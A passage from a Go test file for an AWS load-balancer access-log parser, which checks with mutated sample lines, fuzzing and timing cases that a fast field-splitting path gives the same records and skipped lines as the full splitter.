		// A repeated run, then the same bytes split otherwise.
		albDocModern200, strings.Replace(albDocModern200, "SHA256 TLSv1.3", "SHA256_TLSv1.3", 1),
		albDocModern200, strings.Replace(albDocModern200, `"app.example.com" "arn`, `"app.example.com"_"arn`, 1),
		albDocModern200, strings.Replace(albDocModern200, `"forward" "-"`, `"forward"_"-"`, 1),
		// A repeated run, then more bytes in its last field.
		albReplace(t, albDocModern200, "0123456789abcdef ", `0123456789abcdef"x" `),
		albReplace(t, albDocModern200, "0123456789abcdef ", `0123456789abcdefx `),
		albReplace(t, albDocModern200, "0123456789abcdef ", `0123456789abcdef  `),
		albReplace(t, albDocModern200, `555555555555" 1 `, `555555555555" 12 `),
		albReplace(t, albDocModern200, `555555555555" 1 `, `555555555555" 1"x" `),
		albReplace(t, albDocModern200, `"forward" "-" "-" `, `"forward" "-" "-"x `),
		albReplace(t, albDocModern200, `"forward" "-" "-" `, `"forward" "-" "-"`),
		albDocModern200[:strings.Index(albDocModern200, `555555555555" 1 `)+len(`555555555555" 1`)],
		albDocModern200[:strings.Index(albDocModern200, `"forward" "-" "-"`)+len(`"forward" "-" "-"`)],
		albReplace(t, albDocModern200, "https ", `"https" `),
		albReplace(t, albDocModern200, " 1 2026", "  1 2026"),
		albDocModern200[:strings.Index(albDocModern200, ` "forward"`)],
		albDocModern200[:strings.Index(albDocModern200, ` "-" TID_`)],
		albDocModern200[:strings.Index(albDocModern200, ` TID_`)] + " ",
	}
	for _, l := range []string{albDocHTTP200, albDocHTTPS200, albDocModern200, albDoc503Empty, albDoc503Falco,
		albDoc502Refused, albDoc504, albDocControl, albDocConnLog} {
		lines = append(lines, l, strings.ReplaceAll(l, " ", "  "))
		for cut := 1; cut < len(l); cut += 7 {
			lines = append(lines, l[:cut])
		}
	}
	for w := 0; w < 20; w++ { // the last fields at each length
		lines = append(lines, albReplace(t, albDocModern200, `"forward" "-" "-"`,
			`"`+strings.Repeat("a", w)+`" "`+strings.Repeat("r", w)+`" "`+strings.Repeat("e", w)+`"`))
		lines = append(lines, albReplace(t, albDocModern200, " 200 200 512 1024 ", " 200 200 "+strings.Repeat("5", w+1)+" 1 "))
	}
	// The unquoted fields before the request are split eight bytes at a
	// time: a run of spaces, an empty field, a quote starting a field and
	// the end of the line at every offset in them.
	head := albDocModern200[:strings.Index(albDocModern200, ` "GET`)+2]
	for i := range len(head) {
		lines = append(lines, albDocModern200[:i])
		if head[i] == ' ' {
			lines = append(lines, albDocModern200[:i]+" "+albDocModern200[i:], albDocModern200[:i+1]+`"`+albDocModern200[i+1:])
			// A field left empty: two spaces where it was.
			next := i + 1 + strings.IndexByte(albDocModern200[i+1:], ' ')
			lines = append(lines, albDocModern200[:i+1]+albDocModern200[next:])
		}
	}
	names, err := filepath.Glob(filepath.Join("testdata", "samples", "alb-access", "*.log*"))
	if err != nil || len(names) == 0 {
		t.Fatalf("no ALB samples: %v", err)
	}
	for _, name := range names {
		lines = append(lines, strings.Split(albReadSample(t, filepath.Base(name)), "\n")...)
	}
	return lines
}

// albCheckSplitCommon fails when albSplitCommon, with the runs of the
// lines split before (runs, or none), splits line otherwise than
// albSplitFields, and reports whether it split it. Like the pipeline, it
// splits every line in the same buffer, albCheckBuffer: the runs must not
// keep the bytes of a line.
func albCheckSplitCommon(t *testing.T, line []byte, runs *albRuns) bool {
	t.Helper()
	var fast, full [albAccessMinFields][]byte
	albCheckBuffer = append(albCheckBuffer[:0], line...)
	if !albSplitCommon(albCheckBuffer, &fast, runs) {
		return false
	}
	n, err := albSplitFields(line, full[:])
	if n != albAccessMinFields || err != nil {
		t.Fatalf("%q: the fast path split it, albSplitFields gives %d fields, %v", line, n, err)
	}
	for i := range n {
		if !bytes.Equal(fast[i], full[i]) {
			t.Fatalf("%q: field %d is %q, albSplitFields %q", line, i, fast[i], full[i])
		}
	}
	return true
}

// albCheckBuffer is the buffer albCheckSplitCommon splits lines in.
var albCheckBuffer []byte

// TestALBSplitCommonLikeSplitFields checks that the fast path splits odd
// lines as albSplitFields does or leaves them to it, and that it does take
// the lines ALB writes: each line alone, after the line before it, and
// after itself, when every repeated run is taken from the last line.
func TestALBSplitCommonLikeSplitFields(t *testing.T) {
	var runs albRuns
	for _, line := range albOddLines(t) {
		albCheckSplitCommon(t, []byte(line), nil)
		albCheckSplitCommon(t, []byte(line), &runs)
		albCheckSplitCommon(t, []byte(line), &runs)
	}
	for _, line := range append([]string{albDocHTTPS200, albDocModern200, albDoc502Refused, albDoc504}, albReadSample(t, "crowdsecurity--hub--aws-alb-logs.log")) {
		for _, l := range strings.Split(strings.TrimSpace(line), "\n") {
			if !albCheckSplitCommon(t, []byte(l), nil) || !albCheckSplitCommon(t, []byte(l), &runs) || !albCheckSplitCommon(t, []byte(l), &runs) {
				t.Errorf("%.60q: not taken by the fast path", l)
			}
		}
	}
	for _, line := range albBenchLines(2000) {
		if !albCheckSplitCommon(t, line, nil) || !albCheckSplitCommon(t, line, &runs) {
			t.Fatalf("%q: not taken by the fast path", line)
		}
	}
}

// TestALBAccessFastPathSameRecords parses odd lines with and without the
// common layout's fast path: the records and skip reasons must be the same.
func TestALBAccessFastPathSameRecords(t *testing.T) {
	text := strings.Join(albOddLines(t), "\n")
	fastC, fastRep := runLines(t, albAccess{}, "odd.log", text)
	albSlowSplit = true
	defer func() { albSlowSplit = false }()
	slowC, slowRep := runLines(t, albAccess{}, "odd.log", text)
	if len(fastC.requests) < 50 || fastRep.Skipped < 50 {
		t.Fatalf("%d records and %d skipped lines: the odd lines should give many of each", len(fastC.requests), fastRep.Skipped)
	}
	if len(fastC.requests) != len(slowC.requests) || fastRep.Records != slowRep.Records || fastRep.Skipped != slowRep.Skipped {
		t.Fatalf("fast path: %d records, %d skipped; albSplitFields alone: %d, %d", len(fastC.requests), fastRep.Skipped, len(slowC.requests), slowRep.Skipped)
	}
	for i := range fastC.requests {
		if !reflect.DeepEqual(fastC.requests[i], slowC.requests[i]) {
			t.Errorf("record %d:\nfast path %+v\nalbSplitFields alone %+v", i, fastC.requests[i], slowC.requests[i])
		}
	}
	if a, b := strings.Join(fastRep.SkipSamples(), "\n"), strings.Join(slowRep.SkipSamples(), "\n"); a != b {
		t.Errorf("skipped:\n%s\nalbSplitFields alone:\n%s", a, b)
	}
}

// TestALBAccessOutcomesOnly parses odd and usual lines for a Handler that
// reads only the outcomes of successes and for one that reads everything:
// the records must be the same but for the Method, Path and Detail of the
// requests that did not fail, and the same lines must be skipped.
func TestALBAccessOutcomesOnly(t *testing.T) {
	var b strings.Builder
	for _, l := range albOddLines(t) {
		b.WriteString(l + "\n")
	}
	for _, l := range albBenchLines(500) {
		b.Write(l)
		b.WriteByte('\n')
	}
	text := b.String()
	full, fullRep := runLines(t, albAccess{}, "odd.log", text)
	outcomes := outcomeCollector{&collector{}}
	rep := runLinesTo(t, outcomes, albAccess{}, "odd.log", text)
	if len(outcomes.requests) != len(full.requests) || rep.Records != fullRep.Records || rep.Skipped != fullRep.Skipped {
		t.Fatalf("outcomes only: %d records, %d skipped; everything: %d, %d", len(outcomes.requests), rep.Skipped, len(full.requests), fullRep.Skipped)
	}
	if a, b := strings.Join(rep.SkipSamples(), "\n"), strings.Join(fullRep.SkipSamples(), "\n"); a != b {
		t.Errorf("skipped:\n%s\nreading everything:\n%s", a, b)
	}
	blanked, kept := 0, 0
	for i, want := range full.requests {
		if want.Failure == FailureNone && len(want.Attempts) == 0 {
			cp := *want
			cp.Method, cp.Path, cp.Detail = "", "", ""
			want = &cp
			blanked++
		} else if want.Path != "" {
			kept++
		}
		if !reflect.DeepEqual(outcomes.requests[i], want) {
			t.Errorf("record %d:\noutcomes only %+v\nwant %+v", i, outcomes.requests[i], want)
		}
	}
	if blanked < 400 || kept < 20 {
		t.Errorf("%d successes and %d failures with a path: the lines should give many of each", blanked, kept)
	}
}

// TestALBNextByte checks albNextByte against bytes.IndexByte with the byte
// looked for, and bytes one bit away from it, at every offset; when there
// is none it returns the line's length.
func TestALBNextByte(t *testing.T) {
	for _, c := range []byte{' ', '"'} {
		for _, near := range []byte{c ^ 0x80, c ^ 0x01, c + 1, c - 1, 0, 0xff} {
			for n := 0; n <= 20; n++ {
				for at := -1; at < n; at++ {
					line := bytes.Repeat([]byte{near}, n)
					if at >= 0 {
						line[at] = c
					}
					for from := 0; from <= n; from++ {
						want := bytes.IndexByte(line[from:], c)
						if want < 0 {
							want = n - from
						}
						for _, short := range []bool{false, true} {
							if got := albNextByte(line, from, c, short); got != from+want {
								t.Fatalf("albNextByte(%q, %d, %q, %v) = %d, want %d", line, from, c, short, got, from+want)
							}
						}
					}
				}
			}
		}
	}
}

// FuzzALBSplitCommon compares the common layout's fast path with
// albSplitFields, alone and after a usual line, whose repeated runs it may
// take.
func FuzzALBSplitCommon(f *testing.F) {
	for _, line := range albOddLines(f) {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		albCheckSplitCommon(t, []byte(line), nil)
		var runs albRuns
		albCheckSplitCommon(t, []byte(albDocModern200), &runs)
		albCheckSplitCommon(t, []byte(line), &runs)
	})
}

// TestALBSplitRequestLine checks the request field's method and URI against
// the rule written out with strings: the method ends at the first space,
// and a last word starting with HTTP/, or a dash, is the protocol.
func TestALBSplitRequestLine(t *testing.T) {
	rule := func(req string) (string, string) {
		method, uri, ok := strings.Cut(req, " ")
		if !ok {
			if req == "-" {
				return "", ""
			}
			return req, ""
		}
		if last := strings.LastIndexByte(uri, ' '); last >= 0 && (strings.HasPrefix(uri[last+1:], "HTTP/") || uri[last+1:] == "-") {
			uri = uri[:last]
		}
		if method == "-" {
			method = ""
		}
		if uri == "-" {
			uri = ""
		}
		return method, uri
	}
	for _, req := range []string{
		"GET https://app.example.com:443/api/items HTTP/1.1", "- - -", "-", "", "GET", "GET ", " GET /x HTTP/1.1",
		"GET /a b HTTP/1.1", "GET /x -", "GET /x HTTP", "GETXXXXX /y HTTP/1.1", "GETXXXX /y HTTP/1.1", "PROPFIND /z HTTP/2.0",
		"GET\t/x HTTP/1.1", "M /", "\xa0GET /x HTTP/1.1",
	} {
		method, uri := albSplitRequestLine([]byte(req))
		if wm, wu := rule(req); string(method) != wm || string(uri) != wu {
			t.Errorf("albSplitRequestLine(%q) = %q, %q; want %q, %q", req, method, uri, wm, wu)
		}
	}
}

// TestALBAccessStartTime checks that a request is timed when the ALB
// received it (request_creation_time), its logged time and duration
// kept: a 504 after a 60 s timeout starts 60 s before its line's time,
// and a creation time that is `-`, later than the time field or further
// back than albMaxRequestSpan leaves the time field.
func TestALBAccessStartTime(t *testing.T) {
	logged := albUTC(2026, 3, 10, 12, 1, 5, 1)
	cases := []struct {
		name, created string
		start         time.Time
		dur           time.Duration
	}{
		{"504 after 60 s", "2026-03-10T12:00:05.000000Z", albUTC(2026, 3, 10, 12, 0, 5, 0), 60*time.Second + time.Microsecond},
		{"10 s connect timeout", "2026-03-10T12:00:55.000001Z", albUTC(2026, 3, 10, 12, 0, 55, 1), 10 * time.Second},
		{"no creation time", "-", logged, 0},
		{"creation after the time", "2026-03-10T12:01:06.000000Z", logged, 0},
		{"beyond the longest idle timeout", "2026-03-10T10:54:25.000000Z", logged, 0},
		{"at the longest idle timeout", "2026-03-10T10:54:25.000001Z", albUTC(2026, 3, 10, 10, 54, 25, 1), albMaxRequestSpan},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			line := albReplace(t, albDoc504, "2026-03-10T12:00:05.000000Z", tc.created)
			c, rep := runLines(t, albAccess{}, "access.log", line)
			if rep.Skipped != 0 || len(c.requests) != 1 {
				t.Fatalf("records %d, skipped %d %v; want 1 record", len(c.requests), rep.Skipped, rep.SkipSamples())
			}
			r := c.requests[0]
			if !r.Time.Equal(tc.start) || r.Duration != tc.dur || !r.Logged().Equal(logged) {
				t.Errorf("Time %v, Duration %v, Logged %v; want %v, %v, %v", r.Time, r.Duration, r.Logged(), tc.start, tc.dur, logged)
			}
		})
	}
}
